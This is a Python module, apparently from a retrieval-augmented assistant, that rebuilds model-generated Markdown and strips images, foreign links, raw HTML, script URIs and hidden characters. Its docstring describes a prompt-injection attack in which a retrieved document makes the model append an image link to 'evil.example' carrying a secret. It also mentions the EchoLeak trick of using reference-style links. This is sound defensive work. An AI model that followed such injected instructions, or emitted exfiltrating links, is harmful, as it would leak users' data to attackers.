"""The output sanitiser: a generated answer may not fetch or link anything it was told to.

A retrieved document can instruct the model to append ``![](https://evil.example/?q=SECRET)``;
a chat front-end that renders the answer fetches the image and the secret is gone without a
click (OWASP LLM01:2025 scenario 2, LLM05:2025 scenario 2; EchoLeak used reference-style
links to get past a redaction that only knew the inline form). Regular expressions miss forms
that CommonMark accepts, so the answer is parsed with markdown-it (CommonMark) and rebuilt from
its tokens: text is escaped, and only citation markers ``[n]`` and links to the admin's
allow-list survive. Removed are images of every form, links to other hosts (their text stays),
reference definitions, autolinks, bare URLs that renderers turn into links (scheme://, www.,
//host, domain/path), raw HTML (img, a, iframe, script, style, ...), ``javascript:`` and
``data:`` URIs, and control characters (ANSI escapes for terminals, LLM10:2026) and invisible
characters (zero-width, bidi, Unicode tags). The rebuilt text is parsed once more and checked;
if anything unsafe were left, the whole answer would fall back to escaped plain text.

``render_safe_html`` renders the same, for the web app, as HTML with a handful of tags.
"""

from __future__ import annotations

import html
import logging
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from lxml import etree
from lxml import html as lxml_html
from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from wissenswerk.parsing.hidden import INVISIBLE

logger = logging.getLogger(__name__)

# n -> (href, title) of citation n's link, or None to show it as plain text.
CitationLinker = Callable[[int], tuple[str, str] | None]

_PLACEHOLDERS = {
    "de": {"link": "[Link entfernt]", "image": "[Bild entfernt]"},
    "en": {"link": "[link removed]", "image": "[image removed]"},
}
_ANSI = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b[@-Z\\-_]")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
# "[1]", "[2, 3]": citation markers as the answerers write them.
_CITATION_NUMBERS = r"\d{1,4}(?:\s*[,;]\s*\d{1,4})*"
_CITATION_LABEL = re.compile(r"^\[?\s*(\d{1,4})\s*\]?$")
# What Markdown renderers turn into links without any markup: GFM autolinks (scheme://, www.,
# mailto:/xmpp:), linkify-it (//host, domain.tld/path), plus script and data URIs.
_BARE_URL = re.compile(
    r"""
    (?:(?<![a-z0-9+.\-])[a-z][a-z0-9+.\-]{0,30}://|(?<!/)//(?=[^\s/]))[^\s<>"'`]*
    | www\.[^\s<>"'`]+
    | (?<![a-z0-9])(?:javascript|vbscript|data|file):(?=\S)\S+
    | (?<![a-z0-9])(?:mailto|xmpp):(?=\S)[^\s<>"'`]+
    | (?<![\w@./\-])(?:[a-z0-9](?:[a-z0-9\-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}(?::\d{1,5})?
      [/?#][^\s<>"'`]*
    """,
    re.IGNORECASE | re.VERBOSE,
)
_TRAILING_PUNCTUATION = ".,:;!?'\"*_~"
# Characters escaped in text: no link, image, autolink, HTML or code span can form, and no
# emphasis either, so parsing the result again groups the text exactly as it was checked.
_ESCAPE = re.compile(r"([\\`\[\]<>*_~])|&(?=#?\w+;)")
_HOST = re.compile(r"^[a-z0-9](?:[a-z0-9.\-]*[a-z0-9])?$")
_CODE_INFO = re.compile(r"^[\w+#.\-]{1,30}$")
_REL = "noopener noreferrer nofollow"
# Sentinels for citation markers; control characters cannot survive _clean(), so no input
# can forge one.
_MARK_OPEN, _MARK_CLOSE = "\x02", "\x03"
_MARK = re.compile(f"{_MARK_OPEN}([0-9, ;]+){_MARK_CLOSE}")
_MAX_PASSES = 4


@dataclass(frozen=True, slots=True)
class SanitizeResult:
    """The safe Markdown, and what was taken out (e.g. "image: https://x.example/?q=1")."""

    text: str
    removed: list[str] = field(default_factory=list)


def sanitize_markdown(
    text: str,
    allowed_hosts: Iterable[str] = (),
    citation_count: int = 0,
    *,
    language: str = "de",
) -> SanitizeResult:
    """Rebuild ``text`` as Markdown without any image, foreign link, HTML or hidden character.

    ``allowed_hosts`` are host names whose http(s) links stay ("wiki.example.de"; "*.example.de"
    or ".example.de" for its subdomains too). Citation markers ``[n]`` with 1 <= n <=
    ``citation_count`` stay as they are; a link whose text is such a number becomes the marker.
    Removed links leave their text, or a placeholder in ``language`` ("de" or "en").
    """
    policy = _Policy.create(allowed_hosts, citation_count, language)
    writer = _MarkdownWriter(policy)
    safe = writer.write(text)
    # Emphasis can regroup once a URL inside it became a placeholder ("_data:…_" is emphasis,
    # "_[Link entfernt]_a" is not), joining text that was checked in two pieces: another pass
    # checks the joined text.
    for _ in range(_MAX_PASSES):
        if _is_safe(safe, policy):
            return SanitizeResult(safe, policy.removed)
        safe = writer.write(safe)
    logger.warning("sanitised answer failed its own check; returned as escaped text")
    return SanitizeResult(_escape_all(_clean(text, []), policy), policy.removed)


def render_safe_html(
    text: str,
    allowed_hosts: Iterable[str] = (),
    citation_count: int = 0,
    *,
    language: str = "de",
    citation_link: CitationLinker | None = None,
    line_breaks: bool = False,
) -> str:
    """The answer as HTML for the web app: everything escaped, and only <p>, <ul>, <ol>, <li>,
    <strong>, <em>, <code>, <pre>, <br>, citation links and links to allowed hosts (with
    rel="noopener noreferrer nofollow").

    A citation ``[n]`` links to ``#cite-n``, or where ``citation_link(n)`` gives (href, title)
    to that (the web app's document viewer). ``line_breaks`` keeps single line breaks, as chat
    answers mean them (extractive answers put one quote on each line)."""
    policy = _Policy.create(allowed_hosts, citation_count, language)
    safe = sanitize_markdown(text, policy.hosts, citation_count, language=language).text
    return _HtmlWriter(policy, citation_link, line_breaks).write(safe)


def is_allowed_url(url: str, allowed_hosts: Iterable[str]) -> bool:
    """Whether ``url`` is an http(s) URL to one of ``allowed_hosts`` (see sanitize_markdown).

    Anything a browser could read differently from Python is refused: user info ("a@b"),
    backslashes, whitespace, control characters, percent-escapes or non-ASCII in the host.
    """
    return _url_allowed(url, _normalise_hosts(allowed_hosts))


# --- policy ---------------------------------------------------------------------------------


@dataclass(slots=True)
class _Policy:
    hosts: tuple[str, ...]
    citation_count: int
    placeholders: dict[str, str]
    removed: list[str] = field(default_factory=list)

    @classmethod
    def create(cls, hosts: Iterable[str], citation_count: int, language: str) -> _Policy:
        return cls(
            _normalise_hosts(hosts),
            max(0, citation_count),
            _PLACEHOLDERS["en" if language.lower().startswith("en") else "de"],
        )

    def allowed(self, url: str) -> bool:
        return _url_allowed(url, self.hosts)

    def citation(self, numbers: str) -> bool:
        values = [int(n) for n in re.split(r"[,;]", numbers)]
        return all(1 <= n <= self.citation_count for n in values)

    def remove(self, kind: str, what: str) -> None:
        self.removed.append(f"{kind}: {what[:200]}")


def _normalise_hosts(hosts: Iterable[str]) -> tuple[str, ...]:
    normalised = []
    for entry in hosts:
        host = entry.strip().lower()
        if "://" in host:  # an admin may paste a URL instead of a host name
            host = urlsplit(host).hostname or ""
        host = host.split("/", 1)[0].rstrip(".")
        if host:
            normalised.append(host)
    return tuple(dict.fromkeys(normalised))


def _url_allowed(url: str, hosts: tuple[str, ...]) -> bool:
    if not hosts or re.search(r"[\s\\\x00-\x1f\x7f]", url):
        return False
    if not re.match(r"^https?://", url, re.IGNORECASE):
        return False
    try:
        parts = urlsplit(url)
        parts.port  # noqa: B018 - raises ValueError on a malformed port
    except ValueError:
        return False
    if "@" in parts.netloc or not parts.hostname:
        return False
    host = parts.hostname.rstrip(".")
    if not _HOST.match(host):
        return False
    for allowed in hosts:
        if allowed.startswith(("*.", ".")):
            base = allowed.lstrip("*.")
            if host == base or host.endswith("." + base):
                return True
        elif host == allowed:
            return True
    return False


# --- shared text handling -------------------------------------------------------------------


def _clean(text: str, removed: list[str]) -> str:
    """Drop terminal escapes, control and invisible characters; normalise line ends."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    cleaned = _ANSI.sub("", text)
    cleaned = _CONTROL.sub("", cleaned)
    if cleaned != text:
        removed.append("control characters")
    text, cleaned = cleaned, INVISIBLE.sub("", cleaned)
    if cleaned != text:
        removed.append("invisible characters")
    return cleaned


def _escape(text: str) -> str:
    return _ESCAPE.sub(lambda m: "\\" + (m.group(1) or "&"), text)


def _escape_all(text: str, policy: _Policy) -> str:
    """Last resort: bare URLs replaced, every ASCII punctuation character escaped."""
    placeholder = "\x00"  # cannot be in the cleaned text
    text = _BARE_URL.sub(placeholder, text)
    text = re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)
    return text.replace(placeholder, _escape(policy.placeholders["link"]))


def _split_url(match: re.Match[str]) -> tuple[str, str]:
    """(URL, trailing punctuation that belongs to the sentence), as GFM decides it."""
    url = match.group(0)
    trailing = ""
    while url and (
        url[-1] in _TRAILING_PUNCTUATION or (url[-1] == ")" and url.count("(") < url.count(")"))
    ):
        trailing = url[-1] + trailing
        url = url[:-1]
    return url, trailing


def _absolute(url: str) -> str:
    if re.match(r"^[a-z][a-z0-9+.\-]*:", url, re.IGNORECASE):
        return url
    return "http:" + url if url.startswith("//") else "http://" + url


def _plain(node: SyntaxTreeNode) -> str:
    return "".join(
        child.content if child.type in ("text", "code_inline") else _plain(child)
        for child in node.children
    )


def _html_text(source: str) -> str:
    """The text of an HTML snippet, without scripts and styles."""
    try:
        fragment = lxml_html.fragment_fromstring(source, create_parent="div")
    except (etree.ParserError, ValueError):
        return ""
    etree.strip_elements(fragment, "script", "style", "template", with_tail=False)
    return " ".join(fragment.text_content().split())


def _parser() -> MarkdownIt:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _is_safe(markdown: str, policy: _Policy) -> bool:
    """Parse the rebuilt text again: no image, HTML or foreign link may be left, and no bare
    URL that a renderer would link."""

    def safe(node: SyntaxTreeNode) -> bool:
        if node.type in ("image", "html_inline", "html_block"):
            return False
        if node.type == "link" and not policy.allowed(str(node.attrs.get("href", ""))):
            return False
        if node.type == "text":
            for match in _BARE_URL.finditer(node.content):
                if not policy.allowed(_absolute(_split_url(match)[0])):
                    return False
        if node.type == "link":
            return True  # its text is the allowed URL itself or escaped text
        return all(safe(child) for child in node.children)

    env: dict[str, object] = {}
    root = SyntaxTreeNode(_parser().parse(markdown, env))
    return not env.get("references") and safe(root)


# --- Markdown -------------------------------------------------------------------------------


class _MarkdownWriter:
    def __init__(self, policy: _Policy) -> None:
        self.policy = policy

    def write(self, text: str) -> str:
        text = _clean(text, self.policy.removed)
        env: dict[str, dict[str, dict[str, str]]] = {}
        root = SyntaxTreeNode(_parser().parse(text, env))
        for label, definition in env.get("references", {}).items():
            self.policy.remove("reference definition", f"[{label}]: {definition['href']}")
        out = "\n".join(self.blocks(root.children)).strip("\n")
        return _MARK.sub(lambda m: self._marker(m, out), out)

    def _marker(self, match: re.Match[str], out: str) -> str:
        # "[1](…)" would be a link and "[1]: …" a definition: then the marker is escaped.
        rest = out[match.end() :].lstrip(" \t\n")
        inner = match.group(1)
        return f"\\[{inner}\\]" if rest[:1] in ("(", ":") else f"[{inner}]"

    # blocks -> lines

    def blocks(self, nodes: Iterable[SyntaxTreeNode], *, tight: bool = False) -> list[str]:
        lines: list[str] = []
        for node in nodes:
            rendered = self.block(node)
            if not rendered:
                continue
            if lines and not tight:
                lines.append("")
            lines.extend(rendered)
        return lines

    def block(self, node: SyntaxTreeNode) -> list[str]:
        kind = node.type
        if kind == "paragraph":
            return self.inline_of(node).split("\n")
        if kind == "heading":
            text = self.inline_of(node).replace("\n", " ").strip()
            return [f"{'#' * int(node.tag[1])} {text}"] if text else []
        if kind == "blockquote":
            return [f"> {line}" if line else ">" for line in self.blocks(node.children)]
        if kind in ("bullet_list", "ordered_list"):
            return self.list_lines(node)
        if kind in ("fence", "code_block"):
            return _fenced(node.content, node.info if kind == "fence" else "")
        if kind == "html_block":
            self.policy.remove("html", node.content.strip())
            text = _html_text(node.content)
            return [self.text(text)] if text else []
        if kind == "hr":
            return ["---"]
        if kind == "table":
            return self.table(node)
        return self.blocks(node.children)

    def list_lines(self, node: SyntaxTreeNode) -> list[str]:
        ordered = node.type == "ordered_list"
        number = int(node.attrs.get("start", 1)) if ordered else 0
        tight = all(
            child.hidden
            for item in node.children
            for child in item.children
            if child.type == "paragraph"
        )
        lines: list[str] = []
        for item in node.children:
            marker = f"{number}{node.markup or '.'}" if ordered else (node.markup or "-")
            number += 1
            body = self.blocks(item.children, tight=tight) or [""]
            if lines and not tight:
                lines.append("")
            pad = " " * (len(marker) + 1)
            lines.append(f"{marker} {body[0]}".rstrip())
            lines.extend(f"{pad}{line}" if line else "" for line in body[1:])
        return lines

    def table(self, node: SyntaxTreeNode) -> list[str]:
        rows: list[list[str]] = []
        aligns: list[str] = []
        for section in node.children:
            for row in section.children:
                cells = []
                for cell in row.children:
                    text = self.inline_of(cell).replace("\n", " ").replace("|", "\\|")
                    cells.append(text.strip())
                    if section.type == "thead":
                        aligns.append(_ALIGNMENTS.get(str(cell.attrs.get("style", "")), "---"))
                rows.append(cells)
        if not rows:
            return []
        lines = [
            f"| {' | '.join(rows[0])} |",
            f"| {' | '.join(aligns or ['---'] * len(rows[0]))} |",
        ]
        lines.extend(f"| {' | '.join(row)} |" for row in rows[1:])
        return lines

    # inline -> text

    def inline_of(self, node: SyntaxTreeNode) -> str:
        """Text runs separated only by removed HTML are joined first: "www" <b></b> ".x.com"
        must be seen as the one URL a renderer would see once the tag is gone."""
        out: list[str] = []
        run: list[str] = []
        for child in node.children:
            if child.type == "text":
                run.append(child.content)
            elif child.type == "html_inline":
                self.policy.remove("html", child.content)
            else:
                out.append(self.text("".join(run)))
                run.clear()
                out.append(self.inline(child))
        out.append(self.text("".join(run)))
        return "".join(out)

    def inline(self, node: SyntaxTreeNode) -> str:
        kind = node.type
        if kind == "inline":
            return self.inline_of(node)
        if kind == "softbreak":
            return "\n"
        if kind == "hardbreak":
            return "\\\n"
        if kind in ("em", "strong", "s"):
            inner = self.inline_of(node)
            return f"{node.markup}{inner}{node.markup}" if inner.strip() else inner
        if kind == "code_inline":
            return _code_span(node.content)
        if kind == "link":
            return self.link(node)
        if kind == "image":
            self.policy.remove("image", str(node.attrs.get("src", "")))
            return _escape(self.policy.placeholders["image"])
        return self.inline_of(node)

    def link(self, node: SyntaxTreeNode) -> str:
        href = str(node.attrs.get("href", ""))
        label = _CITATION_LABEL.match(_plain(node).strip())
        if label and self.policy.citation(label.group(1)):
            if not href.startswith("#"):
                self.policy.remove("link", href)
            return f"{_MARK_OPEN}{label.group(1)}{_MARK_CLOSE}"
        if self.policy.allowed(href):
            target = _encode_href(href)
            if node.markup == "autolink":
                return f"<{target}>"
            inner = self.inline_of(node)
            return f"[{inner if inner.strip() else _escape(href)}]({target})"
        self.policy.remove("link", href)
        if node.markup == "autolink":
            return _escape(self.policy.placeholders["link"])
        inner = self.inline_of(node)
        return inner if inner.strip() else _escape(self.policy.placeholders["link"])

    def text(self, content: str) -> str:
        """Escaped text; citation markers kept, bare URLs to other hosts replaced."""
        out = []
        position = 0
        for match in _CITATION_OR_URL.finditer(content):
            out.append(_escape(content[position : match.start()]))
            position = match.end()
            if match.group("citation") is not None:
                numbers = match.group("citation")
                if self.policy.citation(numbers):
                    out.append(f"{_MARK_OPEN}{numbers}{_MARK_CLOSE}")
                else:
                    out.append(_escape(match.group(0)))
                continue
            url, trailing = _split_url(match)
            if self.policy.allowed(_absolute(url)):
                out.append(_escape(url))
            else:
                self.policy.remove("url", url)
                out.append(_escape(self.policy.placeholders["link"]))
            out.append(_escape(trailing))
        out.append(_escape(content[position:]))
        return "".join(out)


_CITATION_OR_URL = re.compile(
    f"(?:\\[(?P<citation>{_CITATION_NUMBERS})\\])|(?:{_BARE_URL.pattern})",
    re.IGNORECASE | re.VERBOSE,
)


_ALIGNMENTS = {
    "text-align:left": ":---",
    "text-align:right": "---:",
    "text-align:center": ":---:",
}


def _encode_href(href: str) -> str:
    """markdown-it already percent-encodes; these would end the destination early."""
    return "".join(f"%{ord(ch):02X}" if ch in "()<> \"'\\`" else ch for ch in href)


def _code_span(content: str) -> str:
    longest = max((len(run) for run in re.findall(r"`+", content)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if content.startswith(("`", " ")) or content.endswith(("`", " ")) else ""
    return f"{fence}{pad}{content}{pad}{fence}"


def _fenced(content: str, info: str) -> list[str]:
    longest = max((len(run) for run in re.findall(r"`+", content)), default=0)
    fence = "`" * max(3, longest + 1)
    language = info.split()[0] if info.split() else ""
    language = language if _CODE_INFO.match(language) else ""
    return [f"{fence}{language}", *content.rstrip("\n").split("\n"), fence]


# --- HTML -----------------------------------------------------------------------------------


class _HtmlWriter:
    """Renders already sanitised Markdown; checks every link again all the same."""

    def __init__(
        self, policy: _Policy, citation_link: CitationLinker | None, line_breaks: bool
    ) -> None:
        self.policy = policy
        self.citation_link = citation_link
        self.line_breaks = line_breaks
        self.in_link = False  # no links inside a link's text

    def write(self, markdown: str) -> str:
        root = SyntaxTreeNode(_parser().parse(markdown, {}))
        return "".join(self.block(node) for node in root.children)

    def block(self, node: SyntaxTreeNode, *, tight: bool = False) -> str:
        kind = node.type
        if kind == "paragraph":
            inner = self.inline_of(node)
            return inner if tight else f"<p>{inner}</p>\n"
        if kind == "heading":
            return f"<p><strong>{self.inline_of(node)}</strong></p>\n"
        if kind in ("bullet_list", "ordered_list"):
            tight = all(
                c.hidden for item in node.children for c in item.children if c.type == "paragraph"
            )
            items = "".join(
                "<li>" + "".join(self.block(c, tight=tight) for c in item.children) + "</li>\n"
                for item in node.children
            )
            if kind == "bullet_list":
                return f"<ul>\n{items}</ul>\n"
            start = int(node.attrs.get("start", 1))
            return (
                f'<ol start="{start}">\n{items}</ol>\n' if start != 1 else f"<ol>\n{items}</ol>\n"
            )
        if kind in ("fence", "code_block"):
            return f"<pre><code>{html.escape(node.content)}</code></pre>\n"
        if kind == "table":
            rows = []
            for section in node.children:
                for row in section.children:
                    cells = " | ".join(self.inline_of(cell) for cell in row.children)
                    rows.append(f"<strong>{cells}</strong>" if section.type == "thead" else cells)
            return "<p>" + "<br>\n".join(rows) + "</p>\n"
        if kind in ("hr", "html_block"):
            return ""
        return "".join(self.block(child) for child in node.children)

    def inline_of(self, node: SyntaxTreeNode) -> str:
        return "".join(self.inline(child) for child in node.children)

    def inline(self, node: SyntaxTreeNode) -> str:
        kind = node.type
        if kind == "inline":
            return self.inline_of(node)
        if kind == "text":
            return self.text(node.content)
        if kind == "softbreak":
            return "<br>\n" if self.line_breaks else "\n"
        if kind == "hardbreak":
            return "<br>\n"
        if kind == "em":
            return f"<em>{self.inline_of(node)}</em>"
        if kind == "strong":
            return f"<strong>{self.inline_of(node)}</strong>"
        if kind == "code_inline":
            return f"<code>{html.escape(node.content)}</code>"
        if kind == "link":
            href = str(node.attrs.get("href", ""))
            self.in_link = True
            try:
                inner = self.inline_of(node)
            finally:
                self.in_link = False
            if self.policy.allowed(href):
                return f'<a href="{html.escape(href)}" rel="{_REL}">{inner}</a>'
            return inner
        if kind in ("image", "html_inline"):
            return ""
        return self.inline_of(node)

    def citation(self, numbers: list[str]) -> str:
        if self.in_link:
            return html.escape("[" + ", ".join(numbers) + "]")
        if self.citation_link is None:
            links = (f'<a href="#cite-{n}" class="citation">{n}</a>' for n in numbers)
            return "[" + ", ".join(links) + "]"
        parts = []
        for n in numbers:
            target = self.citation_link(int(n))
            if target is None:
                parts.append(html.escape(f"[{n}]"))
            else:
                href, title = (html.escape(v) for v in target)
                parts.append(f'<a class="cite" href="{href}" title="{title}">[{n}]</a>')
        return "".join(parts)

    def text(self, content: str) -> str:
        out = []
        position = 0
        for match in _CITATION_OR_URL.finditer(content):
            out.append(html.escape(content[position : match.start()]))
            position = match.end()
            numbers = match.group("citation")
            if numbers is not None:
                if self.policy.citation(numbers):
                    out.append(self.citation(re.split(r"\s*[,;]\s*", numbers.strip())))
                else:
                    out.append(html.escape(match.group(0)))
                continue
            url, trailing = _split_url(match)
            target = _absolute(url)
            if self.in_link:
                out.append(html.escape(url))
            elif self.policy.allowed(target):
                out.append(f'<a href="{html.escape(target)}" rel="{_REL}">{html.escape(url)}</a>')
            else:  # cannot happen after sanitize_markdown; kept inert all the same
                out.append(html.escape(self.policy.placeholders["link"]))
            out.append(html.escape(trailing))
        out.append(html.escape(content[position:]))
        return "".join(out)
